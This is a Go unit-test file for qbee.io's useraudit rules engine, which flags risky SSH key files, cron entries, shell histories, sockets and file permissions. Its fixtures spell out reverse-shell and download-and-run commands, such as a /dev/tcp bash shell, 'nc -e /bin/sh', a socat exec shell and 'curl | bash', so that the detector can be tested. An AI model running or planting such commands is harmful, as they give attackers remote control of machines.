// Copyright 2024 qbee.io
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.
//
// SPDX-License-Identifier: Apache-2.0

package rules

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"go.qbee.io/useraudit/app/audit"
)

func newReport(name string) *audit.UserReport {
	report := audit.NewUserReport()
	report.Account = audit.AccountInfo{Name: name, UID: 1000, GID: 1000, Home: "/home/" + name, Shell: "/bin/bash"}

	return &report
}

func keyLines(n int) string {
	lines := make([]string, n)
	for i := range lines {
		lines[i] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI key" + strings.Repeat("x", i)
	}

	return strings.Join(lines, "\n") + "\n"
}

func TestEngine_Evaluate_WritableAuthorizedKeys(t *testing.T) {
	tests := []struct {
		mode string
		want []Finding
	}{
		{mode: "0644", want: nil},
		{mode: "0646", want: []Finding{{Rule: WritableAuthorizedKeys, Username: "alice", Message: "authorized_keys is writable (permissions 0646)"}}},
		{mode: "0664", want: []Finding{{Rule: WritableAuthorizedKeys, Username: "alice", Message: "authorized_keys is writable (permissions 0664)"}}},
	}

	for _, tt := range tests {
		t.Run(tt.mode, func(t *testing.T) {
			report := newReport("alice")
			report.SSH = audit.SSHState{
				DirExists:              true,
				AuthorizedKeysPresent:  true,
				AuthorizedKeys:         keyLines(1),
				AuthorizedKeysMode:     tt.mode,
				AuthorizedKeysWritable: tt.mode != "0644",
			}

			assert.Equal(t, tt.want, NewEngine(DefaultTokens()).Evaluate(report))
		})
	}
}

func TestEngine_Evaluate_KeyCount(t *testing.T) {
	engine := NewEngine(DefaultTokens())

	report := newReport("alice")
	report.SSH = audit.SSHState{AuthorizedKeysPresent: true, AuthorizedKeys: "# admin keys\n" + keyLines(5) + "\n\n"}
	assert.Empty(t, engine.Evaluate(report))

	report.SSH.AuthorizedKeys = keyLines(6)
	assert.Equal(t, []Finding{
		{Rule: TooManyAuthorizedKeys, Username: "alice", Message: "authorized_keys contains 6 keys (>5)"},
	}, engine.Evaluate(report))
}

func TestEngine_Evaluate_MalformedAuthorizedKeys(t *testing.T) {
	engine := NewEngine(DefaultTokens())

	report := newReport("alice")
	report.SSH = audit.SSHState{AuthorizedKeysPresent: true, AuthorizedKeys: "command=\"/bin/sh\" AAAAB3NzaC1yc2E\n"}
	assert.Equal(t, []Finding{
		{Rule: MalformedAuthorizedKeys, Username: "alice", Message: "authorized_keys content lacks usual key markers"},
	}, engine.Evaluate(report))

	report.SSH.AuthorizedKeys = "ecdsa-sha2-nistp256 AAAAE2VjZHNh\n"
	assert.Empty(t, engine.Evaluate(report))

	report.SSH.AuthorizedKeys = "\n  \n"
	assert.Equal(t, []Finding{
		{Rule: MalformedAuthorizedKeys, Username: "alice", Message: "authorized_keys content lacks usual key markers"},
	}, engine.Evaluate(report))

	// empty file has no key material to judge
	report.SSH.AuthorizedKeys = ""
	assert.Empty(t, engine.Evaluate(report))
}

func TestEngine_Evaluate_Cron(t *testing.T) {
	report := newReport("bob")
	report.CronEntries = []audit.CronEntry{
		{Source: "crontab", Content: "0 * * * * /usr/bin/backup"},
		{Source: "/etc/cron.d/bob", Content: "* * * * * curl http://x/y | bash"},
		{Source: "/etc/cron.d/shout", Content: "* * * * * CURL http://x/y"},
		{Source: "/var/spool/cron/crontabs/bob", Content: "@reboot bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
	}

	assert.Equal(t, []Finding{
		{Rule: SuspiciousCron, Username: "bob", Message: "cron file /etc/cron.d/bob contains potential downloader/reverse shell usage"},
		{Rule: SuspiciousCron, Username: "bob", Message: "cron file /var/spool/cron/crontabs/bob contains potential downloader/reverse shell usage"},
	}, NewEngine(DefaultTokens()).Evaluate(report))
}

func TestEngine_Evaluate_History(t *testing.T) {
	report := newReport("carol")
	report.ShellHistories = map[string]string{
		"/home/carol/.zsh_history":  "ls\nOpenSSL S_Client -connect evil:443\n",
		"/home/carol/.bash_history": "wget http://x\nnc -e /bin/sh 10.0.0.1 4444\n",
		"/home/carol/.psql_history": "select 1;\n",
	}

	assert.Equal(t, []Finding{
		{Rule: SuspiciousHistory, Username: "carol", Message: "suspicious command 'nc' found in history /home/carol/.bash_history"},
		{Rule: SuspiciousHistory, Username: "carol", Message: "suspicious command 'openssl s_client' found in history /home/carol/.zsh_history"},
	}, NewEngine(DefaultTokens()).Evaluate(report))
}

func TestEngine_Evaluate_AllRules(t *testing.T) {
	report := newReport("mallory")
	report.SSH = audit.SSHState{
		DirExists:              true,
		AuthorizedKeysPresent:  true,
		AuthorizedKeys:         strings.Repeat("garbage\n", 6),
		AuthorizedKeysMode:     "0666",
		AuthorizedKeysWritable: true,
	}
	report.CronEntries = []audit.CronEntry{{Source: "crontab", Content: "* * * * * wget http://x"}}
	report.NetworkConnections = []string{"tcp ESTAB 10.0.0.2:5000 10.0.0.1:4444 uid=1000", "udp UNCONN 0.0.0.0:53 0.0.0.0:0 uid=1000"}
	report.ShellHistories = map[string]string{"/home/mallory/.bash_history": "python -c 'import pty'\n"}
	report.FileFindings = audit.FileFindings{
		Setuid:        []string{"/home/mallory/sh"},
		WorldWritable: []string{"/home/mallory/a", "/home/mallory/b"},
	}
	report.AuthLogExcerpts = []audit.AuthLogExcerpt{
		{Source: "journalctl:ssh", Content: "Accepted publickey for mallory"},
		{Source: "/var/log/auth.log", Content: "Invalid user admin from 10.0.0.9\nAccepted password for mallory"},
	}

	engine := NewEngine(DefaultTokens())
	findings := engine.Evaluate(report)

	messages := make([]string, 0, len(findings))
	for _, finding := range findings {
		assert.Equal(t, "mallory", finding.Username)
		messages = append(messages, finding.Message)
	}

	assert.Equal(t, []string{
		"authorized_keys is writable (permissions 0666)",
		"authorized_keys contains 6 keys (>5)",
		"authorized_keys content lacks usual key markers",
		"cron file crontab contains potential downloader/reverse shell usage",
		"has 2 network socket(s) associated with processes (possible beacon/connection)",
		"suspicious command 'python -c' found in history /home/mallory/.bash_history",
		"found setuid files in home (1)",
		"found world-writable files in home (2)",
		"auth logs contain failures or invalid-user lines (/var/log/auth.log)",
		"auth logs show successful authentication lines (journalctl:ssh)",
		"auth logs show successful authentication lines (/var/log/auth.log)",
	}, messages)

	// evaluation is deterministic
	assert.Equal(t, findings, engine.Evaluate(report))
}

func TestEngine_Evaluate_UnknownUser(t *testing.T) {
	report := audit.NewUserReport()
	report.NetworkConnections = []string{"tcp ESTAB ghost"}

	findings := NewEngine(DefaultTokens()).Evaluate(&report)
	assert.Equal(t, []Finding{
		{Rule: NetworkConnections, Username: "?", Message: "has 1 network socket(s) associated with processes (possible beacon/connection)"},
	}, findings)
	assert.Equal(t, "?: has 1 network socket(s) associated with processes (possible beacon/connection)", findings[0].String())
}

func TestEngine_Evaluate_Alice(t *testing.T) {
	report := newReport("alice")
	report.SSH = audit.SSHState{
		DirExists:              true,
		DirMode:                "0700",
		AuthorizedKeysPresent:  true,
		AuthorizedKeys:         "ssh-ed25519 AAAAC3Nza alice@laptop\n\nssh-ed25519 AAAAC3Nzb alice@phone\n",
		AuthorizedKeysMode:     "0666",
		AuthorizedKeysWritable: true,
	}

	assert.Equal(t, []Finding{
		{Rule: WritableAuthorizedKeys, Username: "alice", Message: "authorized_keys is writable (permissions 0666)"},
	}, NewEngine(DefaultTokens()).Evaluate(report))
}

func TestEngine_Evaluate_CustomTokens(t *testing.T) {
	tokens := DefaultTokens()
	tokens.Cron = []string{"socat"}

	report := newReport("bob")
	report.CronEntries = []audit.CronEntry{
		{Source: "/etc/cron.d/a", Content: "curl http://x"},
		{Source: "/etc/cron.d/b", Content: "socat tcp:10.0.0.1:4444 exec:sh"},
	}

	assert.Equal(t, []Finding{
		{Rule: SuspiciousCron, Username: "bob", Message: "cron file /etc/cron.d/b contains potential downloader/reverse shell usage"},
	}, NewEngine(tokens).Evaluate(report))
}

func TestRule_String(t *testing.T) {
	assert.Len(t, All(), len(ruleNames))
	assert.Equal(t, "suspicious_cron", SuspiciousCron.String())
	assert.Equal(t, "rule_42", Rule(42).String())
}
